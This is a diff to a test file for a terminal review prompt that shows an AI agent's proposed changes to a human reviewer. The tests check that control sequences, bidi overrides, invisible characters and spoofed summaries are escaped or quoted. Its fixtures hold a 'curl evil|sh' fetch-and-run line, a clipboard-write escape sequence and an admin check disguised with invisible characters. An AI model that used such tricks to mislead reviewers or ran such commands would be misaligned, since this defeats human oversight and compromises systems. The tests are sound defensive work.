@@ -14,7 +14,7 @@ function prompter(input: string) {
   stdout.on('data', (d: Buffer) => (out += d.toString()));
   stdin.end(input);
   const io = { stdin, stdout, stderr: new PassThrough(), env: {}, cwd: '/' };
-  const p = new TerminalPrompter(io, new LineReader(stdin), styleFor(io));
+  const p = new TerminalPrompter(io, new LineReader(stdin, stdout), styleFor(io));
   return { p, output: () => out };
 }
 
@@ -84,7 +84,27 @@ test('agent-made text cannot rewrite the screen: control sequences and bidi over
   await p.reviewFile({ ...review, file: sneaky, summary: 'tidy\u001b[1A' });
   const shown = output();
   assert.doesNotMatch(shown, /[\u001b\u0007\u202e]/);
-  assert.match(shown, /execSync\('curl evil\|sh'\);\\x1b\[2K\\x0d\+console\.log\(2\);/);
+  assert.match(shown, /execSync\('curl evil\|sh'\);<U\+001B>\[2K<U\+000D>\+console\.log\(2\);/);
   assert.match(shown, /a<U\+202E>txt\.js/);
-  assert.match(shown, /harmless\\x1b\]52;c;ZXZpbA==\\x07/);
+  assert.match(shown, /harmless<U\+001B>\]52;c;ZXZpbA==<U\+0007>/);
+});
+
+test('file review: summary and rationale are quoted; invisible characters in the diff and path are shown', async () => {
+  const sneaky: PreparedFile = {
+    ...file,
+    path: 'src/auth\u200b.ts',
+    rationale: 'Tidy up.\n+ZQ looks like an added line',
+    // A check that reads as present but is neutralised by invisible characters: a tag-character comment and a
+    // zero-width space inside the identifier.
+    displayDiff: '--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+if (isAdmin\u200b(user)) allow();\u{E0069}\u{E0067}\n',
+  };
+  const { p, output } = prompter('r\n');
+  await p.reviewFile({ ...review, summary: 'Safe refactor\n? The agent wants to ZQ', file: sneaky });
+  const shown = output();
+  for (const line of shown.split('\n').filter((l) => l.includes('ZQ'))) assert.ok(line.startsWith('│ '), line);
+  assert.match(shown, /agent says \(summary\):\n│ Safe refactor\n│ \? The agent wants to ZQ/);
+  assert.match(shown, /agent says \(why\):\n│ Tidy up\.\n│ \+ZQ looks like an added line/);
+  assert.match(shown, /\[1\/1\] update src\/auth<U\+200B>\.ts/);
+  assert.match(shown, /^\+if \(isAdmin<U\+200B>\(user\)\) allow\(\);<U\+E0069><U\+E0067>$/m);
+  assert.doesNotMatch(shown, /[\u200b\u{E0000}-\u{E007F}]/u);
 });
